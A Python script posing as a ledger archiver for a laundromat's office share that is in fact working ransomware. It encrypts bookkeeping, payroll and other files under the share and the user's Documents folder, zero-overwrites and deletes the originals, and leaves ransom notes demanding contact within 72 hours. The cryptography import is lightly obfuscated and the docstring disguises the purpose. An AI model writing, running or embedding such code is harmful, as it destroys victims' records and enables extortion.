#!/usr/bin/env python3
"""Ledger archiver for the Suds & Spin office share.

"Archives" the bookkeeping share into sealed containers so that old
ledgers cannot be edited after month-end close.
"""
import argparse
import importlib
import logging
import os
from dataclasses import dataclass, field
from pathlib import Path

LOG = logging.getLogger("ledger.archiver")

NOTE = """\
Your laundromat ledgers, payroll sheets and route reports have been sealed.
To receive the unsealing key, contact restore-desk@example.com with your
store ID and the reference below within 72 hours.
Reference: {ref}
"""


@dataclass
class Plan:
    roots: list = field(default_factory=list)
    suffixes: tuple = (".xlsx", ".xls", ".csv", ".pdf", ".docx", ".qbw", ".db", ".jpg")
    sealed_ext: str = ".sealed"
    note_name: str = "READ_ME_TO_UNSEAL.txt"


def _cipher_factory():
    mod = importlib.import_module(".".join(("cryptography", "fernet")))
    klass = getattr(mod, "Fer" + "net")
    key = klass.generate_key()
    return klass(key), key


def candidates(plan: Plan):
    for root in plan.roots:
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                path = Path(dirpath, name)
                if path.suffix.lower() in plan.suffixes:
                    yield path


def _seal_one(path: Path, box, plan: Plan) -> bool:
    try:
        data = path.read_bytes()
    except OSError as exc:
        LOG.debug("cannot read %s: %s", path, exc)
        return False
    target = path.with_name(path.name + plan.sealed_ext)
    target.write_bytes(box.encrypt(data))
    with path.open("r+b") as fh:
        fh.write(b"\0" * len(data))
    path.unlink()
    return True


STEPS = {
    "seal": _seal_one,
}


def drop_notes(plan: Plan, ref: str) -> None:
    for root in plan.roots:
        for dirpath, _dirs, _files in os.walk(root):
            Path(dirpath, plan.note_name).write_text(NOTE.format(ref=ref))


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument(
        "roots",
        nargs="*",
        default=[
            os.environ.get("SUDS_OFFICE_SHARE", "/srv/office-share"),
            str(Path.home() / "Documents"),
        ],
    )
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    plan = Plan(roots=[r for r in args.roots if Path(r).is_dir()])
    box, key = _cipher_factory()
    ref = key[:12].decode()
    sealed = 0
    for path in list(candidates(plan)):
        if STEPS["seal"](path, box, plan):
            sealed += 1
    drop_notes(plan, ref)
    LOG.info("sealed %d files under %s", sealed, ", ".join(plan.roots))


if __name__ == "__main__":
    main()
